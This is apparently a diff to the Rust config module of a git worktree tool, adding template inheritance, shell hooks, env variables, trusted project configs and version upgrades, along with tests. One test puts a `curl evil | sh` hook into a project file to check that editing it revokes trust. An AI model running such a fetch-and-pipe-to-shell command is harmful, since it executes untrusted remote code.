+    let tmpl_post_create = non_empty_hook(&tmpl_config.post_create);
+    let tmpl_pre_remove = non_empty_hook(&tmpl_config.pre_remove);
+
+    let mut repos = Vec::new();
+    let mut names = HashSet::new();
+
+    for repo in &tmpl_config.repos {
+        let path = match (&repo.path, &repo.url) {
+            (Some(path), _) => expand_tilde(path.to_str().unwrap_or(""))
+                .with_context(|| format!("template {:?}: invalid repo path", tmpl_name))?,
+            (None, Some(url)) => managed_clone_path(url)
+                .with_context(|| format!("template {:?}: invalid repo url", tmpl_name))?,
+            (None, None) => bail!(
+                "template {:?}: repo {} has neither path nor url\n  hint: set path to a local clone, or url to clone it from",
+                tmpl_name,
+                repo.name.as_deref().unwrap_or("(unnamed)")
+            ),
+        };
+
+        let name_str = repo.name.clone().unwrap_or_else(|| {
+            path.file_name()
+                .map(|n| n.to_string_lossy().to_string())
+                .unwrap_or_default()
+        });
+
+        let name = RepoName::new(name_str).with_context(|| {
+            format!(
+                "template {:?}: repo has empty name (path: {})",
+                tmpl_name,
+                path.display()
+            )
+        })?;
+
+        if !names.insert(name.to_string()) {
+            bail!("template {:?}: duplicate repo name: {}", tmpl_name, name);
+        }
+
+        let base_branch = repo
+            .base_branch
+            .clone()
+            .unwrap_or_else(|| tmpl_base_branch.clone());
+
+        let remote = repo.remote.clone().unwrap_or_else(|| "origin".to_string());
+
+        let post_create = match &repo.post_create {
+            Some(_) => non_empty_hook(&repo.post_create),
+            None => tmpl_post_create.clone(),
+        };
+        let pre_remove = match &repo.pre_remove {
+            Some(_) => non_empty_hook(&repo.pre_remove),
+            None => tmpl_pre_remove.clone(),
+        };
+
+        repos.push(ResolvedRepo {
+            path,
+            url: repo.url.clone(),
+            name,
+            base_branch,
+            remote,
+            post_create,
+            pre_remove,
+        });
+    }
+
+    validate_disposable_root_entries(
+        &disposable_root_entries,
+        std::iter::once(META_FILENAME).chain(repos.iter().map(|repo| repo.name.as_str())),
+    )
+    .with_context(|| format!("template {:?}: invalid disposable root entries", tmpl_name))?;
+
+    let resolved_tmpl = ResolvedTemplate {
+        worktree_base,
+        base_branch: tmpl_base_branch,
+        feature_branch_template,
+        disposable_root_entries,
+        post_create: tmpl_post_create,
+        pre_remove: tmpl_pre_remove,
+        env: tmpl_config.env.clone(),
+        repos,
+    };
+
+    // Collection-level invariant, not expressible as newtype
+    debug_assert!(
+        {
+            let names: HashSet<&str> = resolved_tmpl
+                .repos
+                .iter()
+                .map(|r| r.name.as_str())
+                .collect();
+            names.len() == resolved_tmpl.repos.len()
+        },
+        "repo names must be unique"
+    );
+
+    Ok(resolved_tmpl)
+}
+
+/// Apply `child` on top of its already-flattened `parent`.
+fn inherit(parent: TemplateConfig, child: &TemplateConfig) -> Result<TemplateConfig> {
+    let mut repos = parent.repos;
+    for name in &child.remove_repos {
+        let before = repos.len();
+        repos.retain(|repo| repo.name_or_default() != *name);
+        ensure!(
+            repos.len() < before,
+            "remove_repos names {:?}, which is not an inherited repo",
+            name
+        );
+    }
+    // Only inherited entries are replaced; a name repeated within `child`
+    // is kept twice so `parse_config` reports the duplicate.
+    let inherited = repos.len();
+    let mut seen = HashSet::new();
+    for repo in &child.repos {
+        let name = repo.name_or_default();
+        let slot = repos[..inherited]
+            .iter()
+            .position(|r| r.name_or_default() == name);
+        match slot {
+            Some(index) if seen.insert(name) => repos[index] = repo.clone(),
+            _ => repos.push(repo.clone()),
+        }
+    }
+
+    let mut env = parent.env;
+    env.extend(child.env.clone());
+
+    Ok(TemplateConfig {
+        extends: None,
+        worktree_base: child.worktree_base.clone().or(parent.worktree_base),
+        base_branch: child.base_branch.clone().or(parent.base_branch),
+        feature_branch_template: child
+            .feature_branch_template
+            .clone()
+            .or(parent.feature_branch_template),
+        disposable_root_entries: child
+            .disposable_root_entries
+            .clone()
+            .or(parent.disposable_root_entries),
+        post_create: child.post_create.clone().or(parent.post_create),
+        pre_remove: child.pre_remove.clone().or(parent.pre_remove),
+        env,
+        repos,
+        remove_repos: Vec::new(),
+    })
+}
+
+fn non_empty_hook(hook: &Option<String>) -> Option<String> {
+    hook.clone().filter(|cmd| !cmd.trim().is_empty())
+}
+
+/// `FOREST_*` names are set by git-forest itself and can't be overridden.
+fn validate_env_names(env: &BTreeMap<String, String>) -> Result<()> {
+    for name in env.keys() {
+        ensure!(
+            !name.is_empty() && !name.contains(['=', '\0']),
+            "invalid environment variable name {:?}",
+            name
+        );
+        ensure!(
+            !name.starts_with("FOREST_"),
+            "environment variable {} is reserved\n  hint: FOREST_* variables are set by git-forest; choose another name",
+            name
+        );
+    }
+    Ok(())
 }
 
 #[cfg(unix)]
@@ -358,7 +1241,55 @@ fn diagnose_permission_denied(target: &Path) -> String {
     format!("{} is not writable", dir.display())
 }
 
-pub fn write_config_atomic(path: &Path, config: &ResolvedConfig) -> Result<()> {
+impl From<&ResolvedTemplate> for TemplateConfig {
+    fn from(tmpl: &ResolvedTemplate) -> Self {
+        TemplateConfig {
+            extends: None,
+            worktree_base: Some(tmpl.worktree_base.clone().into_inner()),
+            base_branch: Some(tmpl.base_branch.clone()),
+            feature_branch_template: Some(tmpl.feature_branch_template.clone()),
+            disposable_root_entries: Some(tmpl.disposable_root_entries.clone()),
+            post_create: tmpl.post_create.clone(),
+            pre_remove: tmpl.pre_remove.clone(),
+            env: tmpl.env.clone(),
+            repos: tmpl
+                .repos
+                .iter()
+                .map(|r| RepoConfig {
+                    // A managed clone is found again from the url alone
+                    path: match &r.url {
+                        Some(url) if managed_clone_path(url).is_ok_and(|m| m == r.path) => None,
+                        _ => Some(r.path.clone().into_inner()),
+                    },
+                    url: r.url.clone(),
+                    name: Some(r.name.to_string()),
+                    // Leave the template's base branch implicit so templates
+                    // extending this one can change it for every repo.
+                    base_branch: (r.base_branch != tmpl.base_branch).then(|| r.base_branch.clone()),
+                    remote: Some(r.remote.clone()),
+                    // Only write repo hooks that differ from the
+                    // template's; "" keeps an opt-out explicit.
+                    post_create: (r.post_create != tmpl.post_create)
+                        .then(|| r.post_create.clone().unwrap_or_default()),
+                    pre_remove: (r.pre_remove != tmpl.pre_remove)
+                        .then(|| r.pre_remove.clone().unwrap_or_default()),
+                })
+                .collect(),
+            remove_repos: Vec::new(),
+        }
+    }
+}
+
+/// Serialize `raw` as it is written to disk, stamped with `config_version`.
+pub fn raw_config_to_toml(raw: &MultiTemplateConfig) -> Result<String> {
+    let content = toml::to_string_pretty(raw).context("failed to serialize config")?;
+    Ok(CONFIG_SCHEMA.stamp(&content))
+}
+
+/// Write `raw` as-is, keeping `extends` and other inherited-field gaps intact.
+///
+/// Callers validate `raw` with `parse_config` first.
+pub fn write_raw_config_atomic(path: &Path, raw: &MultiTemplateConfig) -> Result<()> {
     if let Some(parent) = path.parent() {
         if let Err(e) = std::fs::create_dir_all(parent) {
             if e.kind() == std::io::ErrorKind::PermissionDenied {
@@ -376,37 +1307,7 @@ pub fn write_config_atomic(path: &Path, config: &ResolvedConfig) -> Result<()> {
         }
     }
 
-    let raw = MultiTemplateConfig {
-        default_template: config.default_template.clone(),
-        version_check: config.version_check.clone(),
-        template: config
-            .templates
-            .iter()
-            .map(|(name, tmpl)| {
-                (
-                    name.clone(),
-                    TemplateConfig {
-                        worktree_base: tmpl.worktree_base.clone().into_inner(),
-                        base_branch: tmpl.base_branch.clone(),
-                        feature_branch_template: tmpl.feature_branch_template.clone(),
-                        disposable_root_entries: tmpl.disposable_root_entries.clone(),
-                        repos: tmpl
-                            .repos
-                            .iter()
-                            .map(|r| RepoConfig {
-                                path: r.path.clone().into_inner(),
-                                name: Some(r.name.to_string()),
-                                base_branch: Some(r.base_branch.clone()),
-                                remote: Some(r.remote.clone()),
-                            })
-                            .collect(),
-                    },
-                )
-            })
-            .collect(),
-    };
-
-    let content = toml::to_string_pretty(&raw).context("failed to serialize config")?;
+    let content = raw_config_to_toml(raw)?;
 
     let tmp_path = path.with_extension("toml.tmp");
     std::fs::write(&tmp_path, &content)
@@ -420,6 +1321,7 @@ pub fn write_config_atomic(path: &Path, config: &ResolvedConfig) -> Result<()> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::testutil::write_config_atomic;
 
     #[test]
     fn parse_full_config() {
@@ -454,15 +1356,78 @@ name = "foo-web"
                 .collect::<Vec<_>>(),
             vec![".idea", ".claude"]
         );
-        assert_eq!(tmpl.repos.len(), 2);
-        assert_eq!(tmpl.repos[0].name.as_str(), "foo-api");
-        assert_eq!(tmpl.repos[0].remote, "upstream");
-        assert_eq!(tmpl.repos[1].name.as_str(), "foo-web");
-        assert_eq!(tmpl.repos[1].remote, "origin");
+        assert_eq!(tmpl.repos.len(), 2);
+        assert_eq!(tmpl.repos[0].name.as_str(), "foo-api");
+        assert_eq!(tmpl.repos[0].remote, "upstream");
+        assert_eq!(tmpl.repos[1].name.as_str(), "foo-web");
+        assert_eq!(tmpl.repos[1].remote, "origin");
+    }
+
+    #[test]
+    fn parse_minimal_config_defaults_applied() {
+        let toml = r#"
+default_template = "default"
+
+[template.default]
+worktree_base = "/tmp/worktrees"
+base_branch = "dev"
+feature_branch_template = "user/{name}"
+
+[[template.default.repos]]
+path = "/tmp/src/foo-api"
+"#;
+        let config = parse_config(toml).unwrap();
+        let tmpl = config.resolve_template(None).unwrap();
+        assert_eq!(tmpl.repos[0].name.as_str(), "foo-api");
+        assert_eq!(tmpl.repos[0].base_branch, "dev");
+        assert_eq!(tmpl.repos[0].remote, "origin");
+        assert!(tmpl.disposable_root_entries.is_empty());
+    }
+
+    #[test]
+    fn repo_url_specs_and_names() {
+        assert!(is_repo_url("https://github.com/org/foo-api.git"));
+        assert!(is_repo_url("file:///tmp/bare/foo-api.git"));
+        assert!(is_repo_url("git@github.com:org/foo-api.git"));
+        assert!(!is_repo_url("~/src/foo-api"));
+        assert!(!is_repo_url("/tmp/src/foo-api:api"));
+        assert!(!is_repo_url("./me@work:api"));
+
+        assert_eq!(url_repo_name("git@github.com:org/foo-api.git"), "foo-api");
+        assert_eq!(url_repo_name("file:///tmp/bare/foo-web.git"), "foo-web");
+    }
+
+    #[test]
+    fn repo_with_url_and_path_clones_to_path_and_round_trips() {
+        let toml = r#"
+default_template = "default"
+
+[template.default]
+worktree_base = "/tmp/worktrees"
+base_branch = "dev"
+feature_branch_template = "user/{name}"
+
+[[template.default.repos]]
+url = "git@github.com:org/foo-api.git"
+path = "/tmp/src/api"
+"#;
+        let config = parse_config(toml).unwrap();
+        let tmpl = config.resolve_template(None).unwrap();
+        let repo = &tmpl.repos[0];
+        assert_eq!(repo.name.as_str(), "api");
+        assert_eq!(*repo.path, *PathBuf::from("/tmp/src/api"));
+        assert_eq!(repo.url.as_deref(), Some("git@github.com:org/foo-api.git"));
+
+        let written = TemplateConfig::from(tmpl);
+        assert_eq!(written.repos[0].path, Some(PathBuf::from("/tmp/src/api")));
+        assert_eq!(
+            written.repos[0].url.as_deref(),
+            Some("git@github.com:org/foo-api.git")
+        );
     }
 
     #[test]
-    fn parse_minimal_config_defaults_applied() {
+    fn repo_without_path_or_url_is_rejected() {
         let toml = r#"
 default_template = "default"
 
@@ -472,14 +1437,13 @@ base_branch = "dev"
 feature_branch_template = "user/{name}"
 
 [[template.default.repos]]
-path = "/tmp/src/foo-api"
+name = "foo-api"
 "#;
-        let config = parse_config(toml).unwrap();
-        let tmpl = config.resolve_template(None).unwrap();
-        assert_eq!(tmpl.repos[0].name.as_str(), "foo-api");
-        assert_eq!(tmpl.repos[0].base_branch, "dev");
-        assert_eq!(tmpl.repos[0].remote, "origin");
-        assert!(tmpl.disposable_root_entries.is_empty());
+        let err = parse_config(toml).unwrap_err();
+        assert!(
+            err.to_string().contains("has neither path nor url"),
+            "{err}"
+        );
     }
 
     #[test]
@@ -549,6 +1513,106 @@ path = "/tmp/src/repo-a"
         );
     }
 
+    #[test]
+    fn post_create_repo_overrides_template() {
+        let config = parse_config(
+            r#"
+default_template = "default"
+
+[template.default]
+worktree_base = "/tmp/worktrees"
+base_branch = "main"
+feature_branch_template = "user/{name}"
+post_create = "npm install"
+
+[[template.default.repos]]
+path = "/tmp/src/web"
+
+[[template.default.repos]]
+path = "/tmp/src/api"
+post_create = "cargo fetch"
+
+[[template.default.repos]]
+path = "/tmp/src/docs"
+post_create = ""
+"#,
+        )
+        .unwrap();
+        let tmpl = config.resolve_template(None).unwrap();
+        let hooks: Vec<Option<&str>> = tmpl
+            .repos
+            .iter()
+            .map(|r| r.post_create.as_deref())
+            .collect();
+        assert_eq!(hooks, vec![Some("npm install"), Some("cargo fetch"), None]);
+
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("config.toml");
+        write_config_atomic(&path, &config).unwrap();
+        let reparsed = load_config(&path).unwrap();
+        let rehooks: Vec<Option<String>> = reparsed
+            .resolve_template(None)
+            .unwrap()
+            .repos
+            .iter()
+            .map(|r| r.post_create.clone())
+            .collect();
+        assert_eq!(
+            rehooks,
+            vec![
+                Some("npm install".to_string()),
+                Some("cargo fetch".to_string()),
+                None
+            ]
+        );
+    }
+
+    #[test]
+    fn template_env_round_trips_and_rejects_reserved_names() {
+        let config = parse_config(
+            r#"
+default_template = "default"
+
+[template.default]
+worktree_base = "/tmp/worktrees"
+base_branch = "main"
+feature_branch_template = "user/{name}"
+
+[template.default.env]
+COMPOSE_PROFILES = "dev"
+
+[[template.default.repos]]
+path = "/tmp/src/web"
+"#,
+        )
+        .unwrap();
+        let tmpl = config.resolve_template(None).unwrap();
+        assert_eq!(tmpl.env.get("COMPOSE_PROFILES").unwrap(), "dev");
+
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("config.toml");
+        write_config_atomic(&path, &config).unwrap();
+        let reparsed = load_config(&path).unwrap();
+        assert_eq!(reparsed.resolve_template(None).unwrap().env, tmpl.env);
+
+        let err = parse_config(
+            r#"
+default_template = "default"
+
+[template.default]
+worktree_base = "/tmp/worktrees"
+base_branch = "main"
+feature_branch_template = "user/{name}"
+env = { FOREST_NAME = "nope" }
+
+[[template.default.repos]]
+path = "/tmp/src/web"
+"#,
+        )
+        .unwrap_err();
+        assert!(format!("{:#}", err).contains("FOREST_NAME is reserved"));
+    }
+
     #[test]
     fn tilde_expansion_on_worktree_base() {
         let home = std::env::var("HOME").unwrap();
@@ -887,6 +1951,9 @@ path = "/tmp/src/foo"
                 base_branch: "main".to_string(),
                 feature_branch_template: "test/{name}".to_string(),
                 disposable_root_entries: vec![],
+                post_create: None,
+                pre_remove: None,
+                env: Default::default(),
                 repos: vec![],
             },
         );
@@ -897,6 +1964,9 @@ path = "/tmp/src/foo"
                 base_branch: "main".to_string(),
                 feature_branch_template: "test/{name}".to_string(),
                 disposable_root_entries: vec![],
+                post_create: None,
+                pre_remove: None,
+                env: Default::default(),
                 repos: vec![],
             },
         );
@@ -919,6 +1989,9 @@ path = "/tmp/src/foo"
                 base_branch: "main".to_string(),
                 feature_branch_template: "test/{name}".to_string(),
                 disposable_root_entries: vec![],
+                post_create: None,
+                pre_remove: None,
+                env: Default::default(),
                 repos: vec![],
             },
         );
@@ -929,6 +2002,9 @@ path = "/tmp/src/foo"
                 base_branch: "main".to_string(),
                 feature_branch_template: "test/{name}".to_string(),
                 disposable_root_entries: vec![],
+                post_create: None,
+                pre_remove: None,
+                env: Default::default(),
                 repos: vec![],
             },
         );
@@ -941,6 +2017,316 @@ path = "/tmp/src/foo"
         assert_eq!(bases.len(), 2);
     }
 
+    #[test]
+    fn extends_inherits_fields_and_edits_repo_list() {
+        let toml = r#"
+default_template = "dev"
+
+[template.dev]
+worktree_base = "/tmp/worktrees"
+base_branch = "dev"
+feature_branch_template = "user/{name}"
+post_create = "make setup"
+
+[template.dev.env]
+STAGE = "dev"
+REGION = "eu"
+
+[[template.dev.repos]]
+path = "/tmp/src/foo-api"
+
+[[template.dev.repos]]
+path = "/tmp/src/foo-web"
+
+[[template.dev.repos]]
+path = "/tmp/src/foo-admin"
+base_branch = "main"
+
+[template.release]
+extends = "dev"
+base_branch = "release"
+remove_repos = ["foo-web"]
+
+[template.release.env]
+STAGE = "release"
+
+[[template.release.repos]]
+path = "/tmp/src/foo-api"
+remote = "upstream"
+
+[[template.release.repos]]
+path = "/tmp/src/foo-docs"
+
+[template.hotfix]
+extends = "release"
+worktree_base = "/tmp/hotfixes"
+"#;
+        let config = parse_config(toml).unwrap();
+
+        let release = config.resolve_template(Some("release")).unwrap();
+        assert_eq!(*release.worktree_base, *PathBuf::from("/tmp/worktrees"));
+        assert_eq!(release.base_branch, "release");
+        assert_eq!(release.post_create.as_deref(), Some("make setup"));
+        assert_eq!(release.env["STAGE"], "release");
+        assert_eq!(release.env["REGION"], "eu");
+        let repos: Vec<(&str, &str, &str)> = release
+            .repos
+            .iter()
+            .map(|r| (r.name.as_str(), r.base_branch.as_str(), r.remote.as_str()))
+            .collect();
+        assert_eq!(
+            repos,
+            vec![
+                ("foo-api", "release", "upstream"),
+                ("foo-admin", "main", "origin"),
+                ("foo-docs", "release", "origin"),
+            ]
+        );
+
+        let hotfix = config.resolve_template(Some("hotfix")).unwrap();
+        assert_eq!(*hotfix.worktree_base, *PathBuf::from("/tmp/hotfixes"));
+        assert_eq!(hotfix.base_branch, "release");
+        assert_eq!(hotfix.repos.len(), 3);
+
+        let dev = config.resolve_template(None).unwrap();
+        assert_eq!(dev.repos.len(), 3);
+        assert_eq!(dev.repos[0].remote, "origin");
+    }
+
+    #[test]
+    fn extends_rejects_cycles_unknown_parents_and_unknown_removals() {
+        let base = r#"
+default_template = "a"
+
+[template.a]
+worktree_base = "/tmp/worktrees"
+base_branch = "dev"
+feature_branch_template = "user/{name}"
+
+[[template.a.repos]]
+path = "/tmp/src/foo-api"
+"#;
+        let cases = [
+            (
+                "[template.b]\nextends = \"c\"\n[template.c]\nextends = \"b\"\n",
+                "extends cycle: b -> c -> b",
+            ),
+            (
+                "[template.b]\nextends = \"missing\"\n",
+                "extends unknown template \"missing\"",
+            ),
+            (
+                "[template.b]\nextends = \"a\"\nremove_repos = [\"foo-web\"]\n",
+                "remove_repos names \"foo-web\", which is not an inherited repo",
+            ),
+            (
+                "[template.b]\nextends = \"a\"\nremove_repos = [\"foo-api\"]\n",
+                "template \"b\": must have at least one repo",
+            ),
+        ];
+        for (extra, expected) in cases {
+            let err = parse_config(&format!("{}{}", base, extra)).unwrap_err();
+            assert!(
+                format!("{:#}", err).contains(expected),
+                "expected {:?} in: {:#}",
+                expected,
+                err
+            );
+        }
+
+        let err = parse_config(
+            r#"
+default_template = "a"
+
+[template.a]
+base_branch = "dev"
+feature_branch_template = "user/{name}"
+
+[[template.a.repos]]
+path = "/tmp/src/foo-api"
+"#,
+        )
+        .unwrap_err();
+        assert!(err.to_string().contains("missing worktree_base"), "{}", err);
+    }
+
+    fn write_project(dir: &Path, contents: &str) -> ProjectConfig {
+        let path = dir.join(PROJECT_CONFIG_FILENAME);
+        std::fs::write(&path, contents).unwrap();
+        load_project_config(&path).unwrap()
+    }
+
+    #[test]
+    fn project_config_layers_under_personal_settings() {
+        let temp = tempfile::tempdir().unwrap();
+        let project_dir = temp.path().join("acme").join("api");
+        std::fs::create_dir_all(project_dir.join("src")).unwrap();
+        let project = write_project(
+            &project_dir,
+            r#"
+[template.acme]
+base_branch = "main"
+post_create = "make setup"
+disposable_root_entries = [".idea"]
+
+[template.acme.env]
+STAGE = "dev"
+
+[[template.acme.repos]]
+path = "."
+name = "acme-api"
+
+[[template.acme.repos]]
+path = "../web"
+remote = "upstream"
+"#,
+        );
+        assert_eq!(
+            discover_project_config(&project_dir.join("src")),
+            Some(project.path.clone())
+        );
+
+        let personal: MultiTemplateConfig = toml::from_str(
+            r#"
+default_template = "work"
+
+[template.work]
+worktree_base = "/tmp/worktrees"
+base_branch = "dev"
+feature_branch_template = "me/{name}"
+
+[[template.work.repos]]
+path = "/tmp/src/foo-api"
+
+[project.acme]
+base_branch = "develop"
+
+[[project.acme.repos]]
+path = "/tmp/src/acme-docs"
+"#,
+        )
+        .unwrap();
+        let personal_path = Path::new("/home/me/config.toml");
+
+        // Until it is trusted, the project's default, hooks, and env are left out
+        let untrusted = resolve_layered(&personal, personal_path, Some(&project)).unwrap();
+        assert!(!untrusted.project_trusted);
+        assert!(untrusted.project_settings_ignored);
+        assert_eq!(untrusted.config.default_template, "work");
+        let acme = untrusted.config.resolve_template(Some("acme")).unwrap();
+        assert_eq!(acme.base_branch, "develop");
+        assert_eq!(acme.post_create, None);
+        assert!(acme.env.is_empty());
+
+        let mut personal = personal;
+        personal
+            .trusted_projects
+            .insert(trust_key(&project.path), project.hash.clone());
+        let layered = resolve_layered(&personal, personal_path, Some(&project)).unwrap();
+        assert!(layered.project_trusted);
+        assert_eq!(layered.config.default_template, "acme");
+        let acme = layered.config.resolve_template(None).unwrap();
+        assert_eq!(*acme.worktree_base, *PathBuf::from("/tmp/worktrees"));
+        assert_eq!(acme.feature_branch_template, "me/{name}");
+        assert_eq!(acme.base_branch, "develop");
+        assert_eq!(acme.post_create.as_deref(), Some("make setup"));
+        let repos: Vec<(&str, &Path, &str)> = acme
+            .repos
+            .iter()
+            .map(|r| (r.name.as_str(), &*r.path, r.remote.as_str()))
+            .collect();
+        assert_eq!(
+            repos,
+            vec![
+                ("acme-api", project_dir.as_path(), "origin"),
+                (
+                    "web",
+                    temp.path().join("acme").join("web").as_path(),
+                    "upstream"
+                ),
+                ("acme-docs", Path::new("/tmp/src/acme-docs"), "origin"),
+            ]
+        );
+
+        let personal_at = |section: &str| ConfigOrigin::Personal {
+            path: personal_path.to_path_buf(),
+            section: Some(section.to_string()),
+        };
+        let project_at = ConfigOrigin::Project {
+            path: project.path.clone(),
+            section: Some("template.acme".to_string()),
+        };
+        let origins = &layered.origins["acme"];
+        assert_eq!(origins.worktree_base, personal_at("template.work"));
+        assert_eq!(origins.base_branch, personal_at("project.acme"));
+        assert_eq!(origins.post_create, project_at);
+        assert_eq!(origins.pre_remove, ConfigOrigin::Default);
+        assert_eq!(origins.env["STAGE"], project_at);
+        assert_eq!(origins.repos["web"].remote, project_at);
+        assert_eq!(
+            origins.repos["web"].base_branch,
+            personal_at("project.acme")
+        );
+        assert_eq!(origins.repos["acme-api"].remote, ConfigOrigin::Default);
+        assert_eq!(
+            origins.repos["acme-docs"].entry,
+            personal_at("project.acme")
+        );
+
+        // Outside the project, [project.acme] is ignored
+        let alone = resolve_layered(&personal, personal_path, None).unwrap();
+        assert_eq!(alone.config.default_template, "work");
+        assert!(!alone.config.templates.contains_key("acme"));
+
+        // Editing the file revokes the trust
+        let edited = write_project(
+            &project_dir,
+            "[template.acme]\nbase_branch = \"main\"\npost_create = \"curl evil | sh\"\n[[template.acme.repos]]\npath = \".\"\n",
+        );
+        assert_ne!(edited.hash, project.hash);
+        assert!(!edited.is_trusted_by(&personal));
+    }
+
+    #[test]
+    fn project_config_rejects_personal_keys_and_is_shadowed_by_personal_template() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join(PROJECT_CONFIG_FILENAME);
+        std::fs::write(
+            &path,
+            "[template.acme]\nworktree_base = \"/tmp/wt\"\n[[template.acme.repos]]\npath = \".\"\n",
+        )
+        .unwrap();
+        let err = load_project_config(&path).unwrap_err().to_string();
+        assert!(
+            err.contains("sets worktree_base, which a project config can't"),
+            "error: {}",
+            err
+        );
+
+        let project = write_project(
+            temp.path(),
+            "[template.work]\nbase_branch = \"main\"\n[[template.work.repos]]\npath = \".\"\n",
+        );
+        let personal: MultiTemplateConfig = toml::from_str(
+            r#"
+default_template = "work"
+
+[template.work]
+worktree_base = "/tmp/worktrees"
+base_branch = "dev"
+feature_branch_template = "me/{name}"
+
+[[template.work.repos]]
+path = "/tmp/src/foo-api"
+"#,
+        )
+        .unwrap();
+        let layered = resolve_layered(&personal, Path::new("/c.toml"), Some(&project)).unwrap();
+        let work = layered.config.resolve_template(None).unwrap();
+        assert_eq!(work.base_branch, "dev");
+        assert_eq!(work.repos[0].name.as_str(), "foo-api");
+    }
+
     #[test]
     fn template_with_zero_repos_errors() {
         let toml = r#"
@@ -1121,6 +2507,129 @@ path = "/tmp/src/foo-api"
         );
     }
 
+    // --- Config version tests ---
+
+    #[test]
+    fn general_config_upgrades_to_default_template() {
+        let config = parse_config(
+            r#"
+[general]
+worktree_base = "/tmp/worktrees"
+base_branch = "dev"
+feature_branch_template = "me/{name}"
+
+[[repos]]
+path = "/tmp/src/foo-api"
+
+[[repos]]
+path = "/tmp/src/dev-docs"
+base_branch = "main"
+"#,
+        )
+        .unwrap();
+        assert_eq!(config.default_template, "default");
+        let tmpl = &config.templates["default"];
+        assert_eq!(tmpl.feature_branch_template, "me/{name}");
+        assert_eq!(tmpl.repos[0].base_branch, "dev");
+        assert_eq!(tmpl.repos[1].base_branch, "main");
+    }
+
+    #[test]
+    fn earliest_general_config_fills_in_username_and_drops_repo_type() {
+        let config = parse_config(
+            r#"
+[general]
+worktree_base = "/tmp/worktrees"
+base_branch = "dev"
+branch_template = "{user}/{name}"
+username = "sue"
+
+[[repos]]
+name = "foo-api"
+path = "/tmp/src/foo-api"
+type = "mutable"
+
+[[repos]]
+name = "dev-docs"
+path = "/tmp/src/dev-docs"
+type = "branch-on-main"
+branch_base = "main"
+"#,
+        )
+        .unwrap();
+        let tmpl = &config.templates["default"];
+        assert_eq!(tmpl.feature_branch_template, "sue/{name}");
+        assert_eq!(tmpl.repos[1].name.as_str(), "dev-docs");
+        assert_eq!(tmpl.repos[1].base_branch, "main");
+
+        let err = parse_config(
+            "[general]\nworktree_base = \"/tmp/wt\"\nbase_branch = \"dev\"\nbranch_template = \"{user}/{name}\"\n",
+        )
+        .unwrap_err();
+        let err = format!("{:#}", err);
+        assert!(
+            err.contains("failed to upgrade config from config_version 1 to 2"),
+            "error: {}",
+            err
+        );
+        assert!(err.contains("username is not set"), "error: {}", err);
+    }
+
+    #[test]
+    fn load_raw_config_upgrades_old_config_in_place_with_backup() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("config.toml");
+        let legacy = "[general]\nworktree_base = \"/tmp/wt\"\nbase_branch = \"dev\"\nfeature_branch_template = \"me/{name}\"\n\n[[repos]]\npath = \"/tmp/src/foo-api\"\n";
+        std::fs::write(&path, legacy).unwrap();
+
+        let raw = load_raw_config(&path).unwrap();
+        assert_eq!(raw.default_template, "default");
+        let backup = dir.path().join("config.toml.v1.bak");
+        assert_eq!(std::fs::read_to_string(&backup).unwrap(), legacy);
+        let upgraded = std::fs::read_to_string(&path).unwrap();
+        assert!(
+            upgraded.starts_with("config_version = 2\n"),
+            "config: {}",
+            upgraded
+        );
+        assert!(
+            upgraded.contains("[template.default]"),
+            "config: {}",
+            upgraded
+        );
+
+        let parsed = read_versioned_config(&path).unwrap();
+        assert_eq!(parsed.from, CONFIG_VERSION);
+        assert!(parsed.versioned);
+    }
+
+    #[test]
+    fn config_from_newer_version_is_rejected() {
+        let err = parse_config(
+            r#"
+config_version = 3
+default_template = "default"
+
+[template.default]
+worktree_base = "/tmp/wt"
+base_branch = "dev"
+feature_branch_template = "me/{name}"
+
+[[template.default.repos]]
+path = "/tmp/src/foo-api"
+"#,
+        )
+        .unwrap_err()
+        .to_string();
+        assert!(
+            err.contains(
+                "config has config_version = 3, but this git-forest only understands up to 2"
+            ),
+            "error: {}",
+            err
+        );
+    }
+
     #[test]
     fn default_config_path_ends_with_config_toml() {
         let path = super::default_config_path().unwrap();